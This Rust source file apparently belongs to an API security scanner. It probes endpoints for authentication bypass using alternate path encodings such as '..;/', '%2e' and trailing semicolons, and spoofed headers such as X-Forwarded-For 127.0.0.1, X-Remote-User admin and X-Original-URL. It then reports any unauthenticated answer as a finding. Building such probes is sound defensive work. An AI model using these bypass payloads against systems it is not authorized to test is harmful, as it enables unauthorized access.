//! Spellings of a path, and headers, that lead around a check which stands in front of the service.

use super::Attack;
use crate::run::event::Finding;
use crate::security::prober::ProbeError;
use crate::security::request::Request;
use crate::security::rules::{HEADER_TRICK, PATH_TRICK};

/// Headers that some services believe, and what is claimed in them.
const HEADERS: [(&str, &str); 10] = [
    ("x-forwarded-for", "127.0.0.1"),
    ("x-real-ip", "127.0.0.1"),
    ("x-client-ip", "127.0.0.1"),
    ("true-client-ip", "127.0.0.1"),
    ("x-forwarded-host", "localhost"),
    ("forwarded", "for=127.0.0.1;host=localhost"),
    ("x-custom-ip-authorization", "127.0.0.1"),
    ("x-remote-user", "admin"),
    ("x-forwarded-user", "admin"),
    // A preflight needs no credentials, and changes nothing where it is taken at its word.
    ("x-http-method-override", "OPTIONS"),
];

impl Attack<'_> {
    /// Every trick; the first that leads in tells enough of its kind.
    pub async fn tricks(&self) -> Result<Vec<Finding>, ProbeError> {
        let mut findings = Vec::new();
        for path in spellings(&self.operation.request.path) {
            let mut request = self.bare();
            request.path = path;
            if let Some(answer) = self.gets_in(&request).await? {
                let title = format!("answered without credentials as {}", request.path);
                findings.push(self.finding(&PATH_TRICK, "path", title, &request, &answer));
                break;
            }
        }
        for (name, request) in self.with_headers() {
            if let Some(answer) = self.gets_in(&request).await? {
                let title = format!("answered without credentials because of {name}");
                findings.push(self.finding(&HEADER_TRICK, name, title, &request, &answer));
                break;
            }
        }
        Ok(findings)
    }

    fn with_headers(&self) -> Vec<(&'static str, Request)> {
        let target = self.operation.request.target();
        let claims = HEADERS.iter().map(|(name, value)| (*name, self.bare().with(name, value)));
        let elsewhere = ["x-original-url", "x-rewrite-url"].map(|name| {
            let mut request = self.bare().with(name, &target);
            request.path = "/".into();
            request.query.clear();
            (name, request)
        });
        claims.chain(elsewhere).collect()
    }
}

/// Other spellings of a path that some routers take for the same.
fn spellings(path: &str) -> Vec<String> {
    let rest = path.trim_start_matches('/');
    let mut all = vec![
        format!("//{rest}"),
        format!("/./{rest}"),
        format!("/%2e/{rest}"),
        format!("{path}/"),
        format!("{path}/."),
        format!("{path};a=b"),
        format!("{path}%20"),
        format!("{path}%2f"),
        format!("{path}?"),
        format!("{path}.json"),
        format!("/x/..;/{rest}"),
    ];
    let (upper, mut encoded) = (path.to_uppercase(), String::new());
    if let Some(first) = rest.bytes().next().filter(u8::is_ascii_alphanumeric) {
        encoded = format!("/%{first:02x}{}", &rest[1..]);
    }
    all.extend([upper, encoded].into_iter().filter(|other| !other.is_empty() && other != path));
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spellings_are_others() {
        let all = spellings("/admin/users");
        assert!(all.contains(&"//admin/users".into()) && all.contains(&"/%61dmin/users".into()));
        assert!(!all.contains(&"/admin/users".into()));
    }
}
